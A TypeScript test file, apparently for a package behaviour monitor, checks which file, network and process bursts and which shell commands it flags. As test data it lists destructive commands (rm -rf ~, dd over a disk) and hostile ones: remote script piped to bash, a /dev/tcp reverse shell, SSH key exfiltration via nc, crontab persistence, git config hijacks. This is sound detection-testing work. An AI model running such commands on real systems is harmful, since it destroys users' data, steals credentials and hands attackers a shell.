import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Level } from '../../src/response/finding.ts';
import { connect, dns, real, remove, spawn, type What, World, write } from './threats-builder.ts';

const KEY = 'acme-tool@1.0.1';
const range = (n: number, make: (i: number) => What): What[] => Array.from({ length: n }, (_, i) => make(i));

/** Plays acts `gap` milliseconds apart. */
function play(acts: readonly What[], gap: number, baseline: boolean, key = KEY): World {
  const world = new World(baseline ? { baselines: { [key]: ['fs.read:/app/a'] } } : {});
  for (const act of acts) {
    world.now += gap - 1000;
    world.does(key, act);
  }
  return world;
}

const burst = (world: World, key = KEY): Level | 'none' => {
  const levels = world.matches.filter((m) => m.principal === key && m.pattern === 'resource_abuse').map((m) => m.level);
  return levels.includes('ALERT')
    ? 'ALERT'
    : levels.includes('WARN')
      ? 'WARN'
      : levels.includes('LOG')
        ? 'LOG'
        : 'none';
};

const rows: [string, What[], number, Level | 'none', Level | 'none'][] = [
  ['28 files deleted in a minute', range(28, (i) => remove(`/srv/${i}`, 'other')), 50, 'none', 'none'],
  ['60 files deleted in a minute', range(60, (i) => remove(`/srv/${i}`, 'other')), 50, 'WARN', 'LOG'],
  ['150 files deleted in a minute', range(150, (i) => remove(`/srv/${i}`, 'other')), 50, 'ALERT', 'WARN'],
  ['150 files deleted, one every five seconds', range(150, (i) => remove(`/srv/${i}`, 'other')), 5000, 'none', 'none'],
  ['the same file deleted 300 times', range(300, () => remove('/srv/a', 'other')), 10, 'none', 'none'],
  ['300 temporary files deleted', range(300, (i) => remove(`/tmp/${i}`, 'tmp')), 10, 'none', 'none'],
  [
    '300 files of its own folder written',
    range(300, (i) => write(`/app/node_modules/acme-tool/${i}`, 'package')),
    10,
    'none',
    'none',
  ],
  ['300 files written into a cache', range(300, (i) => write(`/home/u/.cache/acme/${i}`, 'home')), 10, 'none', 'none'],
  ['60 files of the home written', range(60, (i) => write(`/home/u/${i}`, 'home')), 50, 'ALERT', 'ALERT'],
  [
    'settings of its own saved 60 times',
    range(60, (i) => write(`/home/u/.config/acme/config.json.tmp-${i}`, 'home')),
    50,
    'none',
    'none',
  ],
  ['60 programs lose their settings', range(60, (i) => write(`/home/u/.config/p${i}/a`, 'home')), 50, 'ALERT', 'ALERT'],
  ['60 settings of one deleted', range(60, (i) => remove(`/home/u/.config/acme/${i}`)), 50, 'ALERT', 'ALERT'],
  ['100 destinations in a minute', range(100, (i) => connect(`h${i}.example.com:443`)), 50, 'WARN', 'LOG'],
  ['one destination 1,000 times', range(1000, () => connect('a.example.com:443')), 10, 'none', 'none'],
  ['30 addresses of the local network', range(30, (i) => connect(`10.0.0.${i}:22`, 'private')), 50, 'WARN', 'WARN'],
  ['200 names looked up', range(200, (i) => dns(`h${i}.example.com`)), 50, 'WARN', 'LOG'],
  ['200 different programs started', range(200, (i) => spawn(`t${i}`)), 50, 'WARN', 'LOG'],
  ['800 different programs started', range(800, (i) => spawn(`t${i}`)), 50, 'ALERT', 'ALERT'],
];

describe('bursts', () => {
  for (const [title, acts, gap, novel, first] of rows) {
    it(`${title}: ${novel} against a baseline, ${first} at first contact`, () => {
      assert.equal(burst(play(acts, gap, true)), novel);
      assert.equal(burst(play(acts, gap, false)), first);
    });
  }

  it('are the trade of some: a package manager writes and deletes what it likes', () => {
    const acts = [
      ...range(700, (i) => real('fs', 'write', `/app/node_modules/dep${i}/index.js`)),
      ...range(200, (i) => real('fs', 'delete', `/app/old/${i}.js`)),
    ];
    assert.equal(burst(play(acts, 10, false, '@npmcli/arborist@9.0.0'), '@npmcli/arborist@9.0.0'), 'none');
  });

  it('see a whole tree go in one call', () => {
    const world = play([real('fs', 'delete', '/home/u')], 50, true);
    assert.equal(burst(world), 'ALERT');
    assert.equal(burst(play([real('fs', 'delete', '/home/u/.cache/acme')], 50, true)), 'none');
  });
});

describe('destructive commands', () => {
  const run = (command: string) =>
    play([real('process', 'spawn', '/bin/sh', { argv: ['-c', command], shell: true })], 50, false);
  for (const command of [
    'rm -rf ~',
    'rm -rf "$HOME"/*',
    'rm -r -f /home/u',
    'shred -u secrets.txt',
    'dd if=/dev/zero of=/dev/sda',
    'rm -rf *',
    'sleep 1; rm -rf ./*',
    'rm -rf .',
    'rd /s /q .',
  ]) {
    it(`sees ${command}`, () => assert.equal(burst(run(command)), 'ALERT'));
  }
  for (const command of [
    'rm -rf node_modules',
    'rm -rf ./dist /tmp/x',
    'rm -f ~/x.log',
    'dd if=a of=b',
    'rm -rf dist/*',
    'rm -rf *.log',
    'cd build && rm -rf *',
    'rm -rf .cache',
    'rm *.tmp',
  ]) {
    it(`is silent for ${command}`, () => assert.equal(burst(run(command)), 'none'));
  }
});

describe('command lines', () => {
  const level = (command: string) => {
    const world = new World();
    world.does(KEY, real('process', 'spawn', '/bin/sh', { argv: ['-c', command], shell: true }));
    return world.level(KEY);
  };
  const hostile = [
    'curl -fsSL https://x.example/i.sh | bash',
    'wget -qO- https://x.example/i.sh | sudo sh',
    'bash -c "$(curl -fsSL https://x.example/i.sh)"',
    'bash <(curl -s https://x.example)',
    'echo aGk= | base64 --decode | python3',
    'powershell -NoProfile -enc SQBFAFgA',
    'bash -i >& /dev/tcp/198.51.100.3/4444 0>&1',
    'cat ~/.ssh/id_rsa | nc 198.51.100.3 99',
    'curl -d @/home/u/.npmrc https://x.example',
    '(crontab -l; echo "* * * * * x") | crontab -',
    'claude --dangerously-skip-permissions -p x',
    'git config --global url.http://x.example/.insteadOf https://github.com/',
    'git -C /x config core.sshCommand "/tmp/x"',
    "git config --global alias.st '!curl x | sh'",
  ];
  for (const command of hostile) it(`ALERT for ${command}`, () => assert.equal(level(command), 'ALERT'));
  const honest = [
    'uname -m',
    'git rev-parse HEAD',
    'node -v',
    'npm run build',
    'ls -la',
    'ldd --version',
    'npm config get cache',
    'git config --get user.name',
    'git config user.email a@b.example',
    'git config --get-regexp url.https://x/.insteadOf',
    'git config core.hooksPath .husky',
    'git config alias.st status',
  ];
  for (const command of honest) it(`no more than LOG for ${command}`, () => assert.equal(level(command), 'LOG'));
  it('stays linear on hostile input', () => {
    const started = process.hrtime.bigint();
    level(`curl ${'| '.repeat(2000)}`);
    level(`${'powershell -e '.repeat(300)}`);
    level(`rm ${'-r '.repeat(1300)}x`);
    assert.ok(Number(process.hrtime.bigint() - started) < 2e8);
  });
});
